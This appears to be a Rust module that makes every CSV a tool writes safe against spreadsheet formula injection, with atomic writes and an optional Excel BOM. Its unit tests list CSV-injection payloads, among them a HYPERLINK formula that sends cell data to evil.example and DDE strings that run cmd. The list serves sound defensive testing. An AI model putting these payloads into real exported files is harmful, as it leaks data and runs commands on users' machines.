//! The one way sipas writes a CSV file.
//!
//! Every CSV that sipas writes (ingest's quarantine and repeat tables, clean's quarantine and
//! `clean-by-cell.csv`, every result table of `aggregate`) reaches the disk through [`write()`] or
//! [`write_with`]. On the way each field is checked with [`crate::csv_safe::cell`]: a text cell
//! that a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
//! carriage return and is not a plain number) gets a leading `'`; numbers (`-3.5`, `+2`) are
//! written unchanged. The check works on the CSV bytes themselves, so it holds whatever built the
//! text: a `csv::Writer`, a `format!` or a quoted field.
//!
//! With [`set_excel_bom`] (the `--excel-csv` option, job key `excel_csv`) every CSV starts with a
//! UTF-8 byte order mark, which Excel needs to read Vietnamese text as UTF-8. Off by default.
//! Unit codes are written as text (`05569`); a reader should read them as strings (pandas:
//! `dtype={"unit_code": str}`), and the Parquet twins of the result tables store them as `Utf8`.
//!
//! The file is written atomically (see [`crate::atomic`]).

use std::borrow::Cow;
use std::io::{self, Write};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};

use crate::direct::DirectWriter;

/// The UTF-8 byte order mark written first with `--excel-csv`.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

static EXCEL_BOM: AtomicBool = AtomicBool::new(false);

/// Whether the CSVs written from now on in this process start with a UTF-8 BOM (`--excel-csv`).
pub fn set_excel_bom(on: bool) {
    EXCEL_BOM.store(on, Ordering::Relaxed);
}

/// Whether CSVs are written with a UTF-8 BOM (see [`set_excel_bom`]).
pub fn excel_bom() -> bool {
    EXCEL_BOM.load(Ordering::Relaxed)
}

/// Writes the CSV text `csv` (whole records) to `path` atomically, every cell made inert for
/// spreadsheets, with a BOM when [`excel_bom`] is on.
///
/// # Errors
/// The I/O error of writing or renaming the file; `path` is then left as it was.
pub fn write(path: &Path, csv: &[u8]) -> io::Result<()> {
    write_with(path, |w| w.records(csv))
}

/// Writes a CSV to `path` atomically in pieces: `fill` hands whole records to
/// [`CsvSink::records`], each made inert for spreadsheets on the way (see [`write()`]).
///
/// # Errors
/// The error of `fill` or of writing the file; `path` is then left as it was.
pub fn write_with<F>(path: &Path, fill: F) -> io::Result<()>
where
    F: FnOnce(&mut CsvSink<'_>) -> io::Result<()>,
{
    crate::atomic::write_direct_with(path, |out| {
        let mut sink = CsvSink { out };
        if excel_bom() {
            sink.out.write_all(BOM)?;
        }
        fill(&mut sink)
    })
}

/// The open CSV file of [`write_with`] (written past the page cache, see [`crate::direct`]).
pub struct CsvSink<'a> {
    out: &'a mut DirectWriter,
}

impl CsvSink<'_> {
    /// Appends whole CSV records (each ending in a line break, the last one may not), every
    /// cell made inert for spreadsheets.
    ///
    /// # Errors
    /// The I/O error of writing.
    pub fn records(&mut self, csv: &[u8]) -> io::Result<()> {
        self.out.write_all(&neutralise(csv))
    }

    /// Appends records already made inert ([`Inert::new`], which callers may run on several
    /// threads).
    ///
    /// # Errors
    /// The I/O error of writing.
    pub fn inert(&mut self, csv: &Inert) -> io::Result<()> {
        self.out.write_all(&csv.0)
    }

    /// Appends the records made of `items`, `block` items at a time on the rayon pool: `text`
    /// makes a block's records, made inert for spreadsheets on the same thread; the blocks are
    /// appended in order. The items are taken [`WINDOW_BLOCKS`] blocks at a time, each window
    /// made while the one before is written: a long table never sits in memory as text, and a
    /// slow write does not hold up the making.
    ///
    /// # Errors
    /// The I/O error of writing.
    pub fn par_records<T: Sync>(
        &mut self,
        items: &[T],
        block: usize,
        text: impl Fn(&[T]) -> Vec<u8> + Sync,
    ) -> io::Result<()> {
        use rayon::prelude::*;
        let block = block.max(1);
        let make = |window: &[T]| -> Vec<Inert> {
            window
                .par_chunks(block)
                .map(|b| Inert::new(text(b)))
                .collect()
        };
        let mut made: Vec<Inert> = Vec::new();
        for window in items.chunks(block * WINDOW_BLOCKS) {
            let (written, next) = rayon::join(
                || made.iter().try_for_each(|b| self.inert(b)),
                || make(window),
            );
            written?;
            made = next;
        }
        made.iter().try_for_each(|b| self.inert(b))
    }
}

/// Blocks made at once by [`CsvSink::par_records`] while the window before is written.
pub const WINDOW_BLOCKS: usize = 32;

/// Whole CSV records passed through [`neutralise`] (see [`CsvSink::inert`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Inert(Vec<u8>);

impl Inert {
    /// The records `csv` with every cell made inert for spreadsheets.
    pub fn new(csv: Vec<u8>) -> Self {
        match neutralise(&csv) {
            Cow::Borrowed(_) => Inert(csv),
            Cow::Owned(v) => Inert(v),
        }
    }
}

/// `csv` (comma-separated records, RFC 4180 quoting) with every cell that a spreadsheet would
/// run as a formula prefixed by `'` (inside its quotes when it is quoted). Unchanged (borrowed)
/// when no cell needs it.
pub fn neutralise(csv: &[u8]) -> Cow<'_, [u8]> {
    if csv.contains(&b'"') {
        neutralise_fields(csv)
    } else {
        neutralise_unquoted(csv)
    }
}

/// [`neutralise`] field by field, quoted fields included.
fn neutralise_fields(csv: &[u8]) -> Cow<'_, [u8]> {
    let mut out = Marked::new(csv);
    let mut i = 0;
    let n = csv.len();
    while i < n {
        // A field starts at `i`.
        let quoted = csv[i] == b'"';
        let start = if quoted { i + 1 } else { i };
        let mut j = start;
        if quoted {
            // Up to the closing quote ("" is an escaped quote).
            while j < n {
                if csv[j] == b'"' {
                    if csv.get(j + 1) == Some(&b'"') {
                        j += 2;
                        continue;
                    }
                    break;
                }
                j += 1;
            }
        } else {
            while j < n && !matches!(csv[j], b',' | b'\n' | b'\r') {
                j += 1;
            }
        }
        if needs_quote_mark(&csv[start..j.min(n)]) {
            out.mark(start);
        }
        // Past the closing quote, to the delimiter or line end.
        let mut k = if quoted { (j + 1).min(n) } else { j };
        while k < n && !matches!(csv[k], b',' | b'\n' | b'\r') {
            k += 1;
        }
        // Past the delimiter or line break; an empty field follows a trailing comma.
        i = match csv.get(k) {
            Some(b'\r') if csv.get(k + 1) == Some(&b'\n') => k + 2,
            Some(_) => k + 1,
            None => n,
        };
    }
    out.finish()
}

/// `csv` with a `'` put before the bytes at the positions [`Marked::mark`] is given (in
/// order); borrowed while there is none.
struct Marked<'a> {
    csv: &'a [u8],
    out: Option<Vec<u8>>,
    /// Bytes of `csv` already copied into `out`.
    copied: usize,
}

impl<'a> Marked<'a> {
    fn new(csv: &'a [u8]) -> Self {
        Marked {
            csv,
            out: None,
            copied: 0,
        }
    }

    fn mark(&mut self, at: usize) {
        let n = self.csv.len();
        let o = self.out.get_or_insert_with(|| Vec::with_capacity(n + 64));
        o.extend_from_slice(&self.csv[self.copied..at]);
        o.push(b'\'');
        self.copied = at;
    }

    fn finish(self) -> Cow<'a, [u8]> {
        match self.out {
            None => Cow::Borrowed(self.csv),
            Some(mut o) => {
                o.extend_from_slice(&self.csv[self.copied..]);
                Cow::Owned(o)
            }
        }
    }
}

/// [`neutralise`] of records without a quote: a field starts at the first byte and after
/// each `,`, `\n` or `\r`, and runs to the next of them. Only a field whose first byte could
/// start a formula (`=`, `+`, `-`, `@`, a tab; a `\r` ends an unquoted field) is looked at;
/// such starts are found 64 bytes at a time, as a bit mask the compiler vectorises.
fn neutralise_unquoted(csv: &[u8]) -> Cow<'_, [u8]> {
    /// Bit i set where `f(chunk[i])` (a loop the compiler makes a vector compare).
    fn mask(chunk: &[u8], f: impl Fn(u8) -> bool) -> u64 {
        chunk
            .iter()
            .enumerate()
            .fold(0u64, |m, (i, &b)| m | (u64::from(f(b)) << i))
    }
    let is_end = |b: u8| matches!(b, b',' | b'\n' | b'\r');
    // A `\r` ends an unquoted field rather than starting one.
    let is_risky = |b: u8| b != b'\r' && crate::csv_safe::starts_formula(b);
    let mut out = Marked::new(csv);
    let mut prev_end = 1u64; // the byte before the chunk ends a field (or there is none)
    for (c, chunk) in csv.chunks(64).enumerate() {
        // Most chunks hold no such byte at all: an OR of compares (vectorised, without
        // early exit) tells, and only the others are looked at field by field.
        let any_risky = chunk.iter().fold(false, |a, &b| a | is_risky(b));
        let last_ends = u64::from(is_end(chunk[chunk.len() - 1]));
        if !any_risky {
            prev_end = last_ends;
            continue;
        }
        let ends = mask(chunk, is_end);
        let risky = mask(chunk, is_risky);
        let mut starts = risky & ((ends << 1) | prev_end);
        prev_end = last_ends;
        while starts != 0 {
            let start = c * 64 + starts.trailing_zeros() as usize;
            starts &= starts - 1;
            let len = csv[start..].iter().position(|&b| is_end(b));
            let content = &csv[start..len.map_or(csv.len(), |l| start + l)];
            if needs_quote_mark(content) {
                out.mark(start);
            }
        }
    }
    out.finish()
}

/// Whether a cell's text (as stored between the quotes) would run as a formula.
fn needs_quote_mark(content: &[u8]) -> bool {
    match content.first() {
        Some(&b) if crate::csv_safe::starts_formula(b) => {
            let text = String::from_utf8_lossy(content);
            matches!(crate::csv_safe::cell(&text), Cow::Owned(_))
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The OWASP CSV-injection payloads (and variants seen in the wild).
    const PAYLOADS: [&str; 10] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1,2",
        "@A1",
        "-",
    ];

    fn fields(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(bytes)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    fn csv_of(rows: &[Vec<&str>]) -> Vec<u8> {
        let mut w = csv::WriterBuilder::new()
            .flexible(true)
            .terminator(csv::Terminator::Any(b'\n'))
            .from_writer(Vec::new());
        for r in rows {
            w.write_record(r).unwrap();
        }
        w.into_inner().unwrap()
    }

    #[test]
    fn every_payload_in_every_position_gets_a_quote_mark_and_numbers_stay() {
        for p in PAYLOADS {
            let rows = vec![
                vec!["code", "name", "value"],
                vec![p, "-3.5", "x"],
                vec!["05569", p, "+2"],
                vec!["", "", p],
                vec![p],
            ];
            let out = neutralise(&csv_of(&rows)).into_owned();
            let want: Vec<Vec<String>> = rows
                .iter()
                .map(|r| {
                    r.iter()
                        .map(|f| {
                            if *f == p {
                                format!("'{p}")
                            } else {
                                (*f).to_string()
                            }
                        })
                        .collect()
                })
                .collect();
            assert_eq!(fields(&out), want, "{p:?}");
            // Idempotent: a second pass changes nothing.
            assert_eq!(neutralise(&out), out.as_slice(), "{p:?}");
        }
    }

    /// Records without quotes take the fast path: the same bytes as field by field, on random
    /// records of delimiters, line breaks (`\r\n`, a lone `\r`), numbers, formula starts and
    /// Vietnamese text, longer and shorter than its 64-byte chunks, and long runs without a
    /// formula byte (whole chunks the fast path skips, a field starting right after one).
    #[test]
    fn unquoted_records_are_neutralised_as_field_by_field() {
        let pieces: [&[u8]; 16] = [
            b",",
            b"\n",
            b"\r\n",
            b"\r",
            b"-1.5",
            b"=SUM(A1)",
            b"+",
            b"@x",
            b"\t=1",
            b"-",
            "Đại Từ".as_bytes(),
            b"12",
            b"e",
            b"-2+3",
            b"unit,10000,2023Q1,sipas,index,84,85.431456,1.223627,83.033148,87.829765,",
            "Phường Trưng Vương Thái Nguyên 2024Q1 sipas".as_bytes(),
        ];
        let mut rng = crate::xorshift::XorShift64::new(0x9E37_79B9_7F4A_7C15);
        let mut changed = 0;
        for len in 0..2000 {
            let mut csv = Vec::new();
            for _ in 0..len % 97 {
                csv.extend_from_slice(pieces[(rng.next_u64() % 16) as usize]);
            }
            let fast = neutralise_unquoted(&csv);
            changed += usize::from(matches!(fast, Cow::Owned(_)));
            assert_eq!(
                fast,
                neutralise_fields(&csv),
                "{}",
                String::from_utf8_lossy(&csv)
            );
        }
        assert!(changed > 1000, "{changed}");
    }

    /// Records made in blocks on several threads (blocks and windows not aligned with the
    /// items; several windows), between records written in order, make the file of the same
    /// text written in order, every formula made inert.
    #[test]
    fn blocks_made_in_parallel_are_the_text_in_order() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("t.csv");
        let line = |k: &usize| format!("{k},=x{k},{}\n", "é".repeat(k % 7)).into_bytes();
        let lines = |ks: &[usize]| ks.iter().flat_map(line).collect::<Vec<u8>>();
        let first: Vec<usize> = (0..500).collect();
        let second: Vec<usize> = (100..103).collect();
        write_with(&path, |w| {
            w.records(b"a,b,c\n")?;
            w.par_records(&first, 3, lines)?;
            w.records(b"1,2,3\n")?;
            w.par_records(&second, 2, lines)?;
            w.par_records(&[], 2, lines)?;
            w.records(b"-,+,@\n")
        })
        .unwrap();
        let mut expected = b"a,b,c\n".to_vec();
        for k in &first {
            expected.extend_from_slice(&neutralise(&line(k)));
        }
        expected.extend_from_slice(b"1,2,3\n");
        for k in &second {
            expected.extend_from_slice(&neutralise(&line(k)));
        }
        expected.extend_from_slice(&neutralise(b"-,+,@\n"));
        assert!(expected.windows(4).any(|w| w == b",'=x"));
        assert_eq!(std::fs::read(&path).unwrap(), expected);
    }

    #[test]
    fn safe_text_is_borrowed_unchanged() {
        let text =
            "unit_code,sipas,lo\n05569,-0.250000,\"Phường \"\"A\"\", B\"\r\n,,\n-1e-3,+4,a=b";
        let out = neutralise(text.as_bytes());
        assert!(matches!(out, Cow::Borrowed(_)));
        // A hand-written line without a final line break, quoted payload last.
        let out = neutralise(b"a,\"=1+1\"");
        assert_eq!(out.as_ref(), b"a,\"'=1+1\"");
    }

    #[test]
    fn inert_records_are_the_neutralised_text() {
        let text = "a,b\n=1,-2\n\"@x\",3\n";
        let inert = Inert::new(text.as_bytes().to_vec());
        assert_eq!(inert.0, b"a,b\n'=1,-2\n\"'@x\",3\n");
        assert_eq!(Inert::new(b"a,-2\n".to_vec()).0, b"a,-2\n");
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("t.csv");
        write_with(&p, |w| {
            w.records(b"h\n")?;
            w.inert(&inert)
        })
        .unwrap();
        assert_eq!(std::fs::read(&p).unwrap(), b"h\na,b\n'=1,-2\n\"'@x\",3\n");
    }

    #[test]
    fn write_adds_the_bom_only_when_asked() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("t.csv");
        write(&p, b"a,b\n=1,-2\n").unwrap();
        assert_eq!(std::fs::read(&p).unwrap(), b"a,b\n'=1,-2\n");
        set_excel_bom(true);
        let written = write(&p, "tên\nXã Định Hóa\n".as_bytes());
        set_excel_bom(false);
        written.unwrap();
        let bytes = std::fs::read(&p).unwrap();
        assert_eq!(&bytes[..3], BOM);
        assert_eq!(&bytes[3..], "tên\nXã Định Hóa\n".as_bytes());
    }
}
